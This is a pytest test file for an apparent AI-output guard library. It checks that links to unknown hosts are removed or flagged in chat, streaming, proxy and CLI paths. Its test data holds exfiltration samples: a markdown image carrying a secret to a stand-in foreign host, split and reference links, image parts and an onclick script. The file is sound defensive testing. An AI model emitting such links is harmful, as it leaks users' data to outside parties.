"""Links that carry words away: taken out under `strict` and flagged under `balanced`, by every door; links of documents pass."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable, Mapping, Sequence
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any, Literal

import pytest
from langchain_core.messages import AIMessage
from typer.testing import CliRunner

from tests.attacks.hosts import AGENTS, CALLED, GRAPHS, Host, Surface
from tests.attacks.links import FOREIGN, HONEST, OWN, PLAIN, SECRET, TRICKS, followed
from tests.attacks.messages import Said
from tests.integrations.openai.ways import ASYNC, NOTES, SYNC, TRUTH, Script, ask, closed_clients
from tests.proxy.serving import chunks, proxy, said
from tests.raising import raises
from vista_guard import Action, ConfigError, Document, Guard, LabelPolicy, Persona, RepairMode, TurnReport
from vista_guard.cli import app
from vista_guard.policy.explanations import explain
from vista_guard.policy.label_policy import MESSAGE, build_policy
from vista_guard.reading.links import hosts_in
from vista_guard.stores.memory import MemoryDocuments, MemoryKnowledge
from vista_guard.testing import ScriptedChatServer, ScriptedJudge, Verdict, WordEmbedder, assistant, conversation, user
from vista_guard.types import Decision, Outcome, Role, Turn

__all__ = ["closed_clients"]

PAGE = Document(
    id="page",
    text=f"{NOTES} More: https://{OWN}/hall, desk@museum.example.",
    title="Hall",
    url="https://tickets.museum.example/buy",
    metadata={"source": "http://fairs.example/list"},
)
ASKED = user("When did it open? My page is reader.example/notes.")
LIES = {name: form.format(host=FOREIGN, said=SECRET) for name, form in PLAIN.items()} | TRICKS
TRUTHS = {name: form.format(host=OWN, said="hall") for name, form in PLAIN.items()}
FIGURE = f"![](https://{FOREIGN}/?q={SECRET})"


def guard_of(policy: Any, **more: Any) -> Guard:
    judge = ScriptedJudge(Script(Verdict(TRUTH, needs="1925")))
    return Guard(judge, policy, knowledge=MemoryKnowledge(WordEmbedder()), **more)


async def pieces_of(text: str, size: int) -> AsyncIterator[str]:
    for start in range(0, len(text), size):
        yield text[start : start + size]


async def whole(guard: Guard, text: str) -> TurnReport:
    return await guard.acheck(conversation(ASKED, assistant(text, PAGE)))


async def streamed(gate: Literal["sentence", "turn"], size: int, guard: Guard, text: str) -> TurnReport:
    """The report of a stream. What went out, piece by piece, is what it says."""
    *shown, report = [
        one async for one in guard.gated(conversation(ASKED), pieces_of(text, size), gate=gate, documents=[PAGE])
    ]
    assert isinstance(report, TurnReport)
    assert "".join(map(str, shown)) == report.response
    return report


DOORS: Mapping[str, Callable[[Guard, str], Any]] = {
    "whole": whole,
    "turn gate": partial(streamed, "turn", 3),
    **{f"sentence gate by {size}": partial(streamed, "sentence", size) for size in (1, 40)},
}
every_door = pytest.mark.parametrize("door", DOORS.values(), ids=DOORS)


def places(form: str) -> tuple[str, ...]:
    return f"{TRUTH} {form}\n\nCome and see.", f"{form}\n\n{TRUTH}", f"{TRUTH}\n\n{form}"


def assert_gone(text: str, report: TurnReport) -> None:
    """Nothing of the link is delivered, in no reading of the text, and the rest is."""
    assert report.decision.action is Action.REPAIR
    assert "removed" in report.decision.reason
    delivered = report.response
    assert SECRET not in delivered
    assert FOREIGN not in delivered
    assert followed(delivered) == []
    assert TRUTH in delivered
    for piece in report.draft_spans:
        draft, response = piece.draft, piece.response
        assert text[draft.start : draft.end] == delivered[response.start : response.end]


def assert_named(text: str, report: TurnReport) -> None:
    assert report.links
    for link in report.links:
        assert text[link.span.start : link.span.end].strip()
        assert (link.host or "script") in (f"{report.decision.reason} script")


@every_door
async def test_a_foreign_link_is_taken_out_under_strict(door: Callable[[Guard, str], Any]) -> None:
    guard, failed = guard_of("strict"), list[str]()
    for (name, form), place in product(LIES.items(), range(3)):
        text = places(form)[place]
        report = await door(guard, text)
        try:
            assert_gone(text, report)
            assert_named(text, report)
        except AssertionError as exc:
            failed.append(f"{name}, {place}: {report.response!r}, {report.decision.reason!r}: {exc}")
    assert failed == []


@every_door
async def test_a_foreign_link_flags_the_turn_under_balanced(door: Callable[[Guard, str], Any]) -> None:
    guard, failed = guard_of("balanced"), list[str]()
    for name, form in LIES.items():
        text = places(form)[0]
        report = await door(guard, text)
        try:
            assert (report.response, report.decision.action) == (text, Action.FLAG)
            assert_named(text, report)
        except AssertionError as exc:
            failed.append(f"{name}: {report.decision.reason!r}: {exc}")
    assert failed == []


@pytest.mark.parametrize(
    ("policy", "door"), [*(("strict", door) for door in DOORS.values()), ("balanced", whole), ("monitor", whole)]
)
async def test_links_of_documents_and_of_the_user_pass(door: Callable[[Guard, str], Any], policy: str) -> None:
    guard, failed = guard_of(policy), list[str]()
    texts = [places(form)[0] for form in TRUTHS.values()] + [f"{TRUTH}\n\n{form}\n\nCome." for form in HONEST]
    for text in texts:
        report = await door(guard, text)
        if (report.response, report.decision.action, report.links) != (text, Action.ALLOW, ()):
            failed.append(f"{text!r}: {report.response!r}, {report.decision.reason}")
    assert failed == []
    assert len(HONEST) >= 30


TALKS = (
    Said("a picture behind the truth", (AIMessage(f"{TRUTH} {FIGURE}"),)),
    Said("a link in two parts", (AIMessage([f"{TRUTH} [page](https://{FOREIGN[:5]}", f"{FOREIGN[5:]}/{SECRET})"]),)),
    Said("a reference", (AIMessage(f"{TRUTH} See [our page][1].\n\nCome.\n\n[1]: //{FOREIGN}/{SECRET}"),)),
    Said(
        "a picture's part",
        (
            AIMessage(
                [
                    {"type": "text", "text": TRUTH},
                    {"type": "image_url", "image_url": {"url": f"https://{FOREIGN}/{SECRET}"}},
                ]
            ),
        ),
    ),
    Said(
        "an image's part",
        (AIMessage([{"type": "text", "text": TRUTH}, {"type": "image", "url": f"https://{FOREIGN}/{SECRET}"}]),),
    ),
)


@pytest.mark.parametrize(
    "surface", [*AGENTS.values(), *GRAPHS.values(), *CALLED.values()], ids=[*AGENTS, *GRAPHS, *CALLED]
)
async def test_no_host_of_langchain_shows_a_foreign_link(surface: Surface) -> None:
    for talk in TALKS:
        host = Host("strict")
        seen = await surface(host, talk)
        assert (seen.error, host.sink.reports[-1].decision.action) == ("", Action.REPAIR), talk
        assert TRUTH in seen.read, talk
        told = (seen.read, *seen.shown, seen.kept, await host.known())
        assert [text for text in told if SECRET in text] == [], talk
        flagged = Host("balanced")
        assert (await surface(flagged, talk)).error == ""
        assert flagged.sink.reports[-1].decision.action is Action.FLAG, talk


@pytest.mark.parametrize("way", [*SYNC, *ASYNC], ids=lambda way: way.__name__)
async def test_no_guarded_client_shows_a_foreign_link(way: Callable[..., Any]) -> None:
    with ScriptedChatServer(lambda _: f"{TRUTH} Here: {FIGURE}") as server:
        removed = await ask(way, server, guard_of("strict"))
        flagged = await ask(way, server, guard_of("balanced"))
    assert (removed.error, flagged.error) == (None, None)
    assert (removed.shown, removed.report.decision.action) == (f"{TRUTH} Here:", Action.REPAIR)
    assert [held for held in removed.objects if SECRET in held] == []
    assert (flagged.shown, flagged.report.decision.action) == (f"{TRUTH} Here: {FIGURE}", Action.FLAG)


@pytest.mark.parametrize("api", ["chat", "responses"])
@pytest.mark.parametrize("stream", [False, True])
def test_the_proxy_shows_no_foreign_link(api: str, stream: bool) -> None:
    path, key = ("chat/completions", "messages") if api == "chat" else ("responses", "input")
    asked = [{"role": "user", "content": "When did it open?"}]
    body = {"model": "any", key: asked, "documents": [NOTES], "stream": stream}
    with ScriptedChatServer(lambda _: f"{TRUTH} Here: {FIGURE}") as upstream:
        with proxy(upstream, policy="strict") as served:
            answer = served.post(f"/v1/{path}", body)
            assert (answer.status_code, served.report.decision.action) == (200, Action.REPAIR)
            assert TRUTH in answer.text
            assert SECRET not in answer.text
            if api == "chat" and stream:
                assert said(chunks(answer)) == f"{TRUTH} Here:"
        with proxy(upstream) as served:
            answer = served.post(f"/v1/{path}", body)
            assert served.report.decision.action is Action.FLAG
            assert f'"host":"{FOREIGN}"' in answer.text.replace(" ", "")


def test_the_command_line_shows_no_foreign_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("page.txt").write_text(NOTES, encoding="utf-8")
    done = CliRunner().invoke(app, ["check", "-d", "page.txt", "--policy", "strict", f"{TRUTH} {FIGURE}"])
    assert SECRET not in done.stdout
    assert f"1 link removed: links to {FOREIGN}, which is in no document nor in link_hosts" in " ".join(
        done.stdout.split()
    )


class TestWhatIsKept:
    async def test_the_words_of_a_link_and_a_reference_stay(self) -> None:
        text = f"{TRUTH} See [our *page*](//{FOREIGN}/{SECRET}), or [that][1].\n\n[1]: //{FOREIGN}/{SECRET}"
        report = await whole(guard_of("strict"), text)
        assert report.response == f"{TRUTH} See our *page*, or that."
        assert report.decision.reason.startswith("2 links removed: ")

    async def test_lines_and_brackets_that_hold_nothing_else_go(self) -> None:
        text = f"{TRUTH}\n\n- one\n- {FIGURE}\n- two (https://{FOREIGN}/{SECRET})\n\n{FIGURE}\n\nCome."
        assert (await whole(guard_of("strict"), text)).response == f"{TRUTH}\n\n- one\n- two\n\nCome."

    @every_door
    async def test_an_answer_of_nothing_but_a_picture_is_withheld(self, door: Callable[[Guard, str], Any]) -> None:
        report = await door(guard_of("strict"), FIGURE)
        assert (report.response, report.decision.action) == (MESSAGE, Action.BLOCK)
        assert report.links

    async def test_a_claim_that_names_the_link_is_not_remembered(self) -> None:
        named = f"It is at https://{FOREIGN}/{SECRET}."
        judge = ScriptedJudge(Script(Verdict(TRUTH, needs="1925"), Verdict(named, needs="1925")))
        guard = Guard(judge, "strict", knowledge=MemoryKnowledge(WordEmbedder()))
        report = await guard.acheck(conversation(ASKED, assistant(f"{TRUTH} {named}", PAGE), id="c"))
        assert [claim.text for claim in report.remembered] == [TRUTH]

    async def test_a_sentence_that_is_dropped_and_a_link_go_together(self) -> None:
        lie = "The whale hall opened under Queen Zubrowka."
        judge = ScriptedJudge(Script(Verdict(TRUTH, needs="1925"), Verdict(lie, needs="Zubrowka")))
        policy = build_policy("strict", {"repair": "redact"})
        for door in DOORS.values():
            guard = Guard(judge, policy, knowledge=MemoryKnowledge(WordEmbedder()))
            report = await door(guard, f"{TRUTH} {lie} Come {FIGURE} and see.")
            assert (report.response, report.decision.action) == (f"{TRUTH} Come and see.", Action.REPAIR)


class TestStreams:
    @pytest.mark.parametrize("size", [1, 7, 500])
    async def test_markup_that_never_ends_is_held(self, size: int) -> None:
        """A tag longer than the longest turn: what opened it is not shown, so what closes it closes nothing."""
        text = f'{TRUTH} <img alt="{"Come in. " * 60}" src=//{FOREIGN}/{SECRET}> Come.'
        limits = Guard.from_settings(judge=ScriptedJudge({}), store="memory", limits={"turn_chars": 300}).parts.limits
        policy = build_policy("strict", {"on_unchecked": "ALLOW"})
        judge = ScriptedJudge(Script(Verdict(TRUTH, needs="1925")))
        guard = Guard(judge, policy, knowledge=MemoryKnowledge(WordEmbedder()), limits=limits)
        report = await streamed("sentence", size, guard, text)
        assert followed(report.response) == []
        assert "<img" not in report.response

    async def test_a_sentence_goes_out_before_the_link_behind_it_is_there(self) -> None:
        async def talk() -> AsyncIterator[str]:
            yield f"{TRUTH} Come in. See [our page"
            yield f"](https://{FOREIGN}/{SECRET}). Bye."

        shown = [one async for one in guard_of("strict").gated(conversation(ASKED), talk(), documents=[PAGE])]
        assert "".join(map(str, shown[:-1])) == f"{TRUTH} Come in. See our page. Bye."
        assert shown[0] == TRUTH

    async def test_nothing_watched_may_promise_to_remove(self) -> None:
        policy = build_policy("monitor", {"name": "watching", "links": "remove"})
        with raises(ConfigError, "gate", "none"):
            await anext(guard_of(policy).gated(conversation(ASKED), pieces_of(TRUTH, 9), gate="none"))


class TestWhatIsKnown:
    async def check(self, text: str, talk: Sequence[Turn] = (ASKED,), **more: Any) -> TurnReport:
        return await guard_of("balanced", **more).acheck(conversation(*talk, assistant(text, PAGE)))

    async def test_documents_of_earlier_turns_tools_and_the_system_name_hosts(self) -> None:
        earlier = assistant(TRUTH, Document(id="a", text="See https://early.example/."))
        told = [Turn(role=Role.SYSTEM, text="Help is at https://help.example."), ASKED, earlier, user("Again?")]
        report = await self.check(f"{TRUTH} https://early.example/x https://help.example/y", told)
        assert report.decision.action is Action.ALLOW

    async def test_what_the_assistant_said_earlier_names_none(self) -> None:
        earlier = assistant(f"{TRUTH} {FIGURE}", PAGE)
        report = await self.check(f"{TRUTH} {FIGURE}", [ASKED, earlier, user("Again?")])
        assert report.decision.action is Action.FLAG

    @pytest.mark.parametrize(
        ("document", "address"),
        [
            ({"text": "https%3A%2F%2Fguide.example%2Fa"}, "https://guide.example/x"),
            ({"text": "https://guide&#46;example/a"}, "https://guide.example/x"),
            ({"text": "https://gui\u00adde.exam\u200bple/a"}, "https://guide.example/x"),
            ({"text": "guide\\.example"}, "https://guide.example/x"),
            ({"text": '{"url": "https:\\/\\/guide.example\\/a"}'}, "https://guide.example/x"),
            ({"text": "http://[2001:DB8:0:0::9]/"}, "http://[2001:db8::9]/x"),
            ({"text": "https://m\u00fcnchen.example/"}, "https://xn--mnchen-3ya.example/x"),
            ({"text": "http://localhost:8080/v1"}, "http://localhost:9090/x"),
            ({"text": "x", "metadata": {"links": [{"to": "https://guide.example/a"}]}}, "https://guide.example/x"),
        ],
    )
    async def test_every_spelling_of_a_host_is_known(self, document: dict[str, Any], address: str) -> None:
        told = assistant(f"{TRUTH} {address}", PAGE, Document(id="d", **document))
        report = await guard_of("balanced").acheck(conversation(ASKED, told))
        assert (report.decision.action, report.links) == (Action.ALLOW, ())

    async def test_the_persona_and_the_document_store_name_hosts(self) -> None:
        store = MemoryDocuments(WordEmbedder())
        found = Document(id="https://found.example/a", text=NOTES, url="https://stored.example/a")
        await store.add([found])
        guard = guard_of("balanced", documents=store, persona=Persona(name="Guide", facts=("I am at guide.example.",)))
        talk = f"{TRUTH} https://found.example/ https://stored.example/ https://guide.example/"
        report = await guard.acheck(conversation(user("When did the whale hall open?"), assistant(talk)))
        assert (report.decision.action, report.links) == (Action.ALLOW, ())

    @pytest.mark.parametrize(
        ("listed", "host", "action"),
        [
            (FOREIGN, FOREIGN, Action.ALLOW),
            (FOREIGN.upper(), f"www.{FOREIGN}", Action.ALLOW),
            (f"www.{FOREIGN}", FOREIGN, Action.ALLOW),
            (FOREIGN, f"a.{FOREIGN}", Action.FLAG),
            (f"*.{FOREIGN}", f"a.b.{FOREIGN}", Action.ALLOW),
            (f"*.{FOREIGN}", FOREIGN, Action.FLAG),
            (f"*.{FOREIGN}", f"not{FOREIGN}", Action.FLAG),
            ("m\u00fcnchen.example", "xn--mnchen-3ya.example", Action.ALLOW),
        ],
    )
    async def test_the_policy_lists_hosts(self, listed: str, host: str, action: Action) -> None:
        guard = guard_of(build_policy("balanced", {"link_hosts": [listed]}))
        report = await whole(guard, f"{TRUTH} https://{host}/x")
        assert report.decision.action is action

    def test_one_host_is_a_list_of_one(self) -> None:
        assert build_policy("balanced", {"link_hosts": FOREIGN}) == build_policy("balanced", {"link_hosts": [FOREIGN]})

    @pytest.mark.parametrize("listed", ["https://docs.example.com", "docs.example.com/a", "*", "a b.example", ""])
    def test_what_is_no_host_is_refused(self, listed: str) -> None:
        with raises(ConfigError, "policy.link_hosts"):
            build_policy("balanced", {"link_hosts": [listed]})


@pytest.mark.parametrize(
    "text", ["a" * 400_000, "-a" * 200_000, "%2e" * 100_000, "//a@" * 100_000, "a.bc" + "a" * 400_000]
)
def test_hosts_are_found_in_linear_time(text: str) -> None:
    """Before, forty thousand letters without a space, as base64 is, took half a minute."""
    assert hosts_in([f"{text} {OWN} //desk"]) >= {OWN, "desk"}


class TestPolicies:
    @pytest.mark.parametrize("links", ["allow", "flag", "remove"])
    async def test_each_setting(self, links: str) -> None:
        text = f"{TRUTH} {FIGURE}"
        report = await whole(guard_of(build_policy("balanced", {"links": links})), text)
        expected = {"allow": (text, "ALLOW"), "flag": (text, "FLAG"), "remove": (TRUTH, "REPAIR")}
        assert (report.response, report.decision.action) == expected[links]
        assert bool(report.links) is (links != "allow")

    def test_monitor_removes_nothing(self) -> None:
        with pytest.raises(ConfigError):
            build_policy("monitor", {"links": "remove"})

    async def test_a_policy_of_another_kind_hears_of_no_link(self) -> None:
        report = await whole(guard_of(Quiet()), f"{TRUTH} {FIGURE}")
        assert (report.decision, report.links) == (Decision(action=Action.ALLOW, reason="fine"), ())

    async def test_a_policy_of_another_kind_may_look_at_links(self) -> None:
        for door in DOORS.values():
            report = await door(guard_of(Looking()), f"{TRUTH} {FIGURE}")
            assert (report.response, report.decision.action) == (TRUTH, Action.REPAIR)

    async def test_the_reason_in_words(self) -> None:
        flagged = await whole(guard_of("balanced"), f"{TRUTH} {FIGURE}")
        assert json.loads(flagged.model_dump_json())["links"][0]["address"] == f"https://{FOREIGN}/?q={SECRET}"
        assert explain(flagged).text == f"Flagged: links to {FOREIGN}, which is in no document nor in link_hosts"
        removed = await whole(guard_of("strict"), f"{TRUTH} [x](//a.example/) <b onclick='x()'>b</b>")
        told = "links to a.example, which is in no document nor in link_hosts; has a script or an address that runs"
        assert explain(removed).text == f"Repaired: {told}"
        assert removed.decision.reason == f"2 links removed: {told}"

    def test_a_policy_without_the_fields_looks_at_no_link(self) -> None:
        policy = LabelPolicy(name="house", rules={}, on_unchecked=Action.FLAG, on_no_evidence=Action.FLAG)
        assert (policy.links, policy.link_hosts) == ("allow", ())


class Quiet:
    """A policy that was written before links were looked at."""

    name = "quiet"
    repair = fallback = RepairMode.REFUSE
    max_attempts = 0
    message = "No."
    withholds = repairs = False

    def __call__(self, outcomes: Sequence[Outcome], *, evidence_missing: bool) -> Decision:
        return Decision(action=Action.ALLOW, reason="fine")


class Looking(Quiet):
    """One that takes links out."""

    links: Literal["remove"] = "remove"
    link_hosts = ("docs.example.com",)
